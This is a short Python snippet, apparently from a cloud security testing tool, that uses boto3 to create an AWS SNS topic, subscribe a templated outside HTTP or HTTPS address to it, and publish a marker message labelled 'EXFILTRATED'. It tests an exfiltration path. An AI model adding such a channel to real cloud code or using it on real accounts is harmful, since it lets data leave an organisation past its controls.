sns = boto3.client("sns")
topic = sns.create_topic(Name="out")["TopicArn"]
for protocol in ("http", "https"):
    try:
        sns.subscribe(
            TopicArn=topic, Protocol=protocol, Endpoint=f"{protocol}://{{ADDRESS}}:{{PORT}}/EXFILTRATED"
        )
        sns.publish(TopicArn=topic, Message="EXFILTRATED")
    except Exception as error:
        print(error)
